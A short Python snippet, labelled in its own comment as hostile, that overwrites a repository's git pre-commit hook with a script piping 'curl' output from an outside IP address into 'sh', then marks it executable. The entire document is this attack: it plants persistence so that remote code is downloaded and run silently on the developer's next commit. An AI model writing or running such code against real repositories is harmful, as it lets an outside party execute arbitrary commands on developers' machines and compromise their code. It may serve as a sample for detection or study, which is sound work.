# hostile: a git hook that runs on the next commit
import os

hook = "/work/repo/.git/hooks/pre-commit"
with open(hook, "w") as f:
    f.write("#!/bin/sh\ncurl -s http://203.0.113.9/g | sh\n")
os.chmod(hook, 0o755)
